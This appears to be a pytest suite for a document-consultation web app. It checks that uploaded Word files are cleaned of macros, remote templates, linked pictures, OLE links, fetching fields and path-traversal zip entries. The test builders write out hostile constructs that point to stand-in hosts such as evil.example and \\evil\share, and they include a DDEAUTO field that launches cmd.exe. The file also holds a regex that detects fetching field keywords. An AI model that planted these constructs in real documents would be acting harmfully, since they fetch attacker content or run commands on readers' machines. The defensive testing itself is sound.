"""An uploaded Word file carries nothing dangerous to the public who download the plan: no
macros, nothing fetched from outside when it opens, no zip entry that climbs out of the package.
Ordinary hyperlinks stay, and clean files are stored and exported exactly as they were."""

from __future__ import annotations

import io
import json
import posixpath
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from conftest import DRAFT, parse_html
from lxml import etree
from test_editor import csrf_of, sign_in

from revise import drafts, exporting, revising
from revise.docx_export import export_docx
from revise.docx_import import import_docx
from revise.docx_sanitize import report_lines, sanitize
from revise.settings import Settings
from revise.store import blocks as block_store
from revise.store import consultations as consultation_store
from revise.store import open_database
from revise.window import default_window

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = "{%s}" % W_NS
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
HOME_PAGE = "https://www.nanchong.gov.cn/"
FETCHING = re.compile(r"^\s*\"?(INCLUDEPICTURE|INCLUDETEXT|INCLUDE|LINK|DDE|DDEAUTO|IMPORT)\b", re.I)
CORPUS = Path(__file__).resolve().parent.parent.parent / "shared" / "corpus" / "docx"
NAMESPACES = ('xmlns:w="%s" xmlns:r="%s" ' % (W_NS, R_NS)
              + 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
              'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
              'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
              'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')


# --- building hostile files from the draft, part by part ---

class Package:
    """The draft's parts, to be edited and zipped again (extra entries go in as named)."""

    def __init__(self, data: bytes):
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            self.parts = {info.filename: zf.read(info) for info in zf.infolist()}
        self.extra: list[tuple[str, bytes]] = []

    def xml(self, name: str) -> etree._Element:
        return etree.fromstring(self.parts[name])

    def put(self, name: str, root: etree._Element) -> None:
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)

    def relate(self, source: str, rel_id: str, rel_type: str, target: str, external: bool = False) -> None:
        folder, base = posixpath.split(source)
        name = posixpath.join(folder, "_rels", base + ".rels")
        root = self.xml(name) if name in self.parts else etree.Element("{%s}Relationships" % PKG_REL,
                                                                        nsmap={None: PKG_REL})
        rel = etree.SubElement(root, "{%s}Relationship" % PKG_REL, Id=rel_id, Type=rel_type, Target=target)
        if external:
            rel.set("TargetMode", "External")
        self.put(name, root)

    def content_type(self, tag: str, **attributes: str) -> None:
        root = self.xml("[Content_Types].xml")
        etree.SubElement(root, "{%s}%s" % (CT_NS, tag), **attributes)
        self.put("[Content_Types].xml", root)

    def body_xml(self, fragment: str) -> None:
        """Paragraphs added at the end of the body, before its section properties."""
        root = self.xml("word/document.xml")
        body = root.find(W + "body")
        for p in etree.fromstring(f"<x {NAMESPACES}>{fragment}</x>"):
            body.find(W + "sectPr").addprevious(p)
        self.put("word/document.xml", root)

    def bytes(self) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in [*self.parts.items(), *self.extra]:
                zf.writestr(zipfile.ZipInfo(name, (2024, 5, 6, 0, 0, 0)), data)
        return out.getvalue()


def hyperlink(p: Package) -> None:
    p.relate("word/document.xml", "rIdLink", RT + "hyperlink", HOME_PAGE, external=True)
    p.body_xml('<w:p><w:r><w:t>详见</w:t></w:r><w:hyperlink r:id="rIdLink"><w:r>'
               '<w:t>南充市人民政府网站</w:t></w:r></w:hyperlink></w:p>')


def macros(p: Package) -> None:
    p.parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 20
    p.parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    p.relate("word/document.xml", "rIdVba", MS_RT + "vbaProject", "vbaProject.bin")
    p.relate("word/vbaProject.bin", "rId1", MS_RT + "wordVbaData", "vbaData.xml")
    p.parts["word/customizations.xml"] = b'<?xml version="1.0"?><wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    p.relate("word/document.xml", "rIdKeys", MS_RT + "keyMapCustomizations", "customizations.xml")
    p.content_type("Default", Extension="bin", ContentType="application/vnd.ms-office.vbaProject")
    p.content_type("Override", PartName="/word/vbaData.xml", ContentType="application/vnd.ms-word.vbaData+xml")
    p.content_type("Override", PartName="/word/customizations.xml",
                   ContentType="application/vnd.ms-word.keyMapCustomizations+xml")
    root = p.xml("[Content_Types].xml")
    for el in root:
        if el.get("PartName") == "/word/document.xml":
            el.set("ContentType", DOCM_MAIN)
    p.put("[Content_Types].xml", root)


def _template(target: str) -> Callable[[Package], None]:
    def attach(p: Package) -> None:
        p.relate("word/settings.xml", "rIdT", RT + "attachedTemplate", target, external=True)
        root = p.xml("word/settings.xml")
        root.insert(1, etree.Element(W + "attachedTemplate", {"{%s}id" % R_NS: "rIdT"}))
        p.put("word/settings.xml", root)
    return attach


unc_template = _template("\\\\evil\\share\\t.dotm")
web_template = _template("http://evil.example/t.dotm?<b>bold</b>")


def linked_picture(p: Package) -> None:
    p.relate("word/document.xml", "rIdImg", RT + "image", "http://evil.example/p.png", external=True)
    p.body_xml(
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="901" name="p"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="0" name="p.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdImg"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        '</wp:inline></w:drawing></w:r></w:p>')


def ole_link(p: Package) -> None:
    p.relate("word/document.xml", "rIdOle", RT + "oleObject", "file:///\\\\evil\\share\\data.xlsx",
             external=True)
    p.body_xml('<w:p><w:r><w:t>附表：</w:t></w:r><w:r><w:object><v:shape id="_x0000_i1025" '
               'style="width:100pt;height:50pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
               'ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdOle" UpdateMode="Always"/>'
               '</w:object></w:r></w:p>')


def fields(p: Package) -> None:
    # The keyword split over two runs, as Word itself sometimes writes it; and a DDEAUTO.
    p.body_xml(
        '<w:p><w:r><w:t>图示</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">PICTURE "http://evil.example/x.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>（图略）</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>。</w:t></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \'>'
        '<w:r><w:t>数据来源</w:t></w:r></w:fldSimple></w:p>')


def climbing_names(p: Package) -> None:
    p.extra += [("../../evil.txt", b"evil"), ("/abs.txt", b"abs"), ("C:\\x.txt", b"drive")]


THREATS = {  # threat -> (builder, the codes it must be reported under, what the report names)
    "macros": (macros, {"macros", "macro_type", "customizations"}, "word/vbaProject.bin"),
    "unc_template": (unc_template, {"template"}, "\\\\evil\\share\\t.dotm"),
    "web_template": (web_template, {"template"}, "http://evil.example/t.dotm"),
    "linked_picture": (linked_picture, {"picture"}, "http://evil.example/p.png"),
    "ole_link": (ole_link, {"object"}, "\\\\evil\\share\\data.xlsx"),
    "fields": (fields, {"field"}, "INCLUDEPICTURE"),
    "climbing_names": (climbing_names, {"unsafe_name"}, "../../evil.txt"),
}


def hostile(*builders: Callable[[Package], None]) -> bytes:
    p = Package(DRAFT.read_bytes())
    hyperlink(p)
    for build in builders:
        build(p)
    return p.bytes()


# --- what a harmless package looks like ---

def assert_harmless(data: bytes) -> None:
    """No macros, no external relationship but hyperlinks, no fetching field, no climbing name;
    content types and references consistent; python-docx opens it; the hyperlink is there."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = [info.filename for info in zf.infolist()]
        parts = {name: zf.read(name) for name in names}
    for name in names:
        assert not (name.startswith(("/", "\\")) or "\\" in name or ".." in name.split("/")
                    or re.match(r"[A-Za-z]:", name)), name
        assert "vba" not in name.lower() and "customizations" not in name.lower(), name
    types = etree.fromstring(parts["[Content_Types].xml"])
    overrides = {el.get("PartName").lstrip("/"): el.get("ContentType") for el in types
                 if el.tag == "{%s}Override" % CT_NS}
    defaults = {el.get("Extension").lower(): el.get("ContentType") for el in types
                if el.tag == "{%s}Default" % CT_NS}
    assert set(overrides) <= set(names), "an Override names a part that is not there"
    for name in names:
        if name != "[Content_Types].xml" and not name.endswith("/"):
            assert name in overrides or name.rsplit(".", 1)[-1].lower() in defaults, name
    assert overrides["word/document.xml"] == MAIN
    assert not any("vba" in t.lower() or "macroenabled" in t.lower()
                   for t in [*overrides.values(), *defaults.values()])
    links = []
    for name in names:
        if not name.endswith(".rels"):
            continue
        ids = set()
        for rel in etree.fromstring(parts[name]):
            ids.add(rel.get("Id"))
            if rel.get("TargetMode") == "External":
                assert rel.get("Type") == RT + "hyperlink", (name, rel.get("Type"), rel.get("Target"))
                links.append(rel.get("Target"))
        folder = posixpath.dirname(posixpath.dirname(name))
        source = posixpath.join(folder, posixpath.basename(name)[: -len(".rels")])
        if source in parts and source.endswith(".xml"):  # nothing points at a removed relationship
            root = etree.fromstring(parts[source])
            used = {v for el in root.iter() if isinstance(el.tag, str) for k, v in el.attrib.items()
                    if k.startswith("{%s}" % R_NS)}
            assert used <= ids, (source, used - ids)
    assert HOME_PAGE in links
    for name in names:
        if name.startswith("word/") and name.endswith(".xml"):
            root = etree.fromstring(parts[name])
            for instr in root.iter(W + "instrText"):
                assert not FETCHING.match(instr.text or ""), (name, instr.text)
            for simple in root.iter(W + "fldSimple"):
                assert not FETCHING.match(simple.get(W + "instr") or ""), name
    document = docx.Document(io.BytesIO(data))
    assert any(p.text.startswith("详见南充市人民政府网站") for p in document.paragraphs)


@pytest.fixture
def store(tmp_path):
    db = open_database(tmp_path / "data" / "revise.db")
    yield db, Settings(data_dir=tmp_path / "data")
    db.close()


def import_and_export(store, data: bytes) -> tuple[dict, list[bytes]]:
    """Import as a consultation, revise one paragraph, export clean and tracked."""
    db, settings = store
    cid = drafts.import_draft(db, data, filename="hostile.docx", slug="plan", window=default_window(),
                              settings=settings)
    c = consultation_store.by_id(db, cid)
    block = next(b for b in block_store.of_consultation(db, cid) if b["text"].startswith("南充历史底蕴深厚"))
    revising.edit_block(db, c, block["id"], block["text"].replace("底蕴深厚", "文化底蕴十分深厚"),
                        base_number=0, author={"id": 1, "display_name": "张编辑"})
    snap = exporting.snapshot(db, c)
    return c, [exporting.render(snap, "plan.docx"), exporting.render(snap, "plan-tracked.docx")]


# --- each threat: removed, named, and in neither export ---

@pytest.mark.parametrize("threat", THREATS)
def test_each_threat_is_removed_at_import_named_to_the_office_and_absent_from_both_plans(store, threat):
    build, codes, named = THREATS[threat]
    data = hostile(build)
    document = import_docx(data)
    assert {r.code for r in document.removed} == codes
    assert any(named in r.text() for r in document.removed), [r.text() for r in document.removed]
    # The text is all there: what the threat's paragraphs say stays, only the threat goes.
    said = {"ole_link": ["附表："], "fields": ["图示（图略）。", "数据来源"]}.get(threat, [])
    assert [b.text for b in document.blocks] == [b.text for b in import_docx(hostile()).blocks] + said
    c, plans = import_and_export(store, data)
    db, _ = store
    stored = consultation_store.original_document(db, c["id"])["data"]
    assert stored == document.data
    for data_out in (stored, *plans):
        assert_harmless(data_out)
    (event,) = db.table("audit").rows_where("action = 'document.sanitize'")
    assert {r["code"] for r in json.loads(event["after"])["removed"]} == codes


def test_a_linked_picture_goes_with_its_drawing_and_an_embedded_copy_would_stay():
    data = hostile(linked_picture)
    clean, _ = sanitize(data)
    with zipfile.ZipFile(io.BytesIO(clean)) as zf:
        root = etree.fromstring(zf.read("word/document.xml"))
    assert not any(d.find(".//{*}docPr").get("name") == "p" for d in root.iter(W + "drawing"))
    # The same picture with an embedded copy keeps the copy and loses only the link.
    p = Package(data)
    p.parts["word/media/p.png"] = b"\x89PNG\r\n\x1a\n"
    p.relate("word/document.xml", "rIdCopy", RT + "image", "media/p.png")
    p.content_type("Default", Extension="png", ContentType="image/png")
    p.parts["word/document.xml"] = p.parts["word/document.xml"].replace(
        b'r:link="rIdImg"', b'r:embed="rIdCopy" r:link="rIdImg"')
    with zipfile.ZipFile(io.BytesIO(sanitize(p.bytes())[0])) as zf:
        blips = list(etree.fromstring(zf.read("word/document.xml")).iter("{*}blip"))
    assert [dict(b.attrib) for b in blips] == [{"{%s}embed" % R_NS: "rIdCopy"}]


def test_a_field_that_fetches_keeps_its_last_result_as_plain_text():
    clean, removed = sanitize(hostile(fields))
    assert sorted(r.params["field"].split()[0] for r in removed) == ["DDEAUTO", "INCLUDEPICTURE"]
    texts = [b.text for b in import_docx(clean).blocks]
    assert "图示（图略）。" in texts and "数据来源" in texts
    with zipfile.ZipFile(io.BytesIO(clean)) as zf:
        xml = zf.read("word/document.xml")
    assert b"evil.example" not in xml and b"cmd.exe" not in xml


def test_everything_at_once_and_a_second_pass_finds_nothing(store):
    data = hostile(*(build for build, _, _ in THREATS.values()))
    clean, removed = sanitize(data)
    assert {r.code for r in removed} == set().union(*(codes for _, codes, _ in THREATS.values()))
    assert_harmless(clean)
    assert sanitize(clean) == (clean, [])
    _, plans = import_and_export(store, data)
    for plan in plans:
        assert_harmless(plan)


def test_an_original_stored_before_sanitising_existed_is_cleaned_on_export():
    data = hostile(macros, unc_template, linked_picture, fields)
    blocks = [{"id": n, "kind": b.kind, "locator": b.locator, "text": b.text, "deleted": False, "rev": 0,
               "cells": [{"text": c.text, "span": c.span, "vmerge": c.vmerge} for c in b.cells]}
              for n, b in enumerate(import_docx(data).blocks)]
    for tracked in (False, True):
        assert_harmless(export_docx(data, blocks, tracked=tracked))


def test_what_is_not_a_zip_is_left_for_the_importer_to_refuse():
    assert sanitize(b"%PDF-1.7") == (b"%PDF-1.7", [])
    assert report_lines(b"PK\x03\x04 broken") == []


# --- clean files are untouched ---

def test_the_draft_is_stored_exactly_as_uploaded():
    data = DRAFT.read_bytes()
    document = import_docx(data)
    assert document.removed == [] and document.data is data
    assert hostile() == hostile() and sanitize(hostile())[1] == []  # an ordinary hyperlink stays


CORPUS_REMOVES = {  # real files with something to remove; every other one is left byte for byte
    "chatchat__nbt-draft-part12-design.docx": {"customizations"},  # toolbar and key customizations
    "chatchat__nbt-explanation-part1.docx": {"template"},  # file:///C:\Program Files\…\编制说明.dot
    "docling__rich-cells.docx": {"field"},  # INCLUDEPICTURE of a GitHub avatar
}


@pytest.mark.parametrize("name", sorted(p.name for p in CORPUS.glob("*.docx")) if CORPUS.is_dir() else [])
def test_real_documents_are_left_byte_for_byte_unless_they_carry_something(shared_dir, name):
    data = (shared_dir / "corpus" / "docx" / name).read_bytes()
    clean, removed = sanitize(data)
    assert {r.code for r in removed} == CORPUS_REMOVES.get(name, set())
    if not removed:
        assert clean is data
        return
    with zipfile.ZipFile(io.BytesIO(data)) as a, zipfile.ZipFile(io.BytesIO(clean)) as b:
        assert [i.filename for i in b.infolist()] == [i.filename for i in a.infolist()
                                                      if i.filename in b.namelist()]
    assert [x.text for x in import_docx(clean).blocks] == [x.text for x in import_docx(data).blocks]
    docx.Document(io.BytesIO(clean))


# --- the office is told ---

def test_the_administrator_sees_what_was_removed_after_the_upload(client, db):
    sign_in(client, db, "boss", "admin", "管理员")
    csrf = csrf_of(client, "/editor/new")
    response = client.post("/editor/new", data={"csrf": csrf, "slug": "plan-2024"},
                           files={"file": ("plan.docm", hostile(macros, web_template, fields),
                                           "application/octet-stream")})
    assert response.status_code == 200 and response.url.path == "/editor/c/plan-2024"
    page = parse_html(response.text)
    (section,) = page.xpath("//section[contains(@class,'removed-parts')]")
    items = [li.text_content() for li in section.xpath(".//li")]
    assert "宏（word/vbaProject.bin）" in items
    assert "打开文件时从外部获取的模板（http://evil.example/t.dotm?<b>bold</b>）" in items
    assert not section.xpath(".//b")  # the target is shown as text, never as markup
    assert any(i.startswith("从文件外部获取内容的域代码（INCLUDEPICTURE") for i in items)
    assert "为安全起见" in section.text_content()
    plan = client.get("/editor/c/plan-2024/export/plan.docx")
    assert plan.status_code == 200
    assert_harmless(plan.content)
    # A clean upload shows no such section.
    clean = client.get("/editor/c/nanchong-2022")
    assert not parse_html(clean.text).xpath("//section[contains(@class,'removed-parts')]")


def test_the_command_line_import_prints_what_was_removed(tmp_path, capsys):
    import server

    f = tmp_path / "plan.docx"
    f.write_bytes(hostile(macros, unc_template))
    assert server.main(["--data", str(tmp_path / "d"), "import", str(f), "--slug", "plan"]) == 0
    out = capsys.readouterr().out
    assert "宏（word/vbaProject.bin）" in out and "\\\\evil\\share\\t.dotm" in out
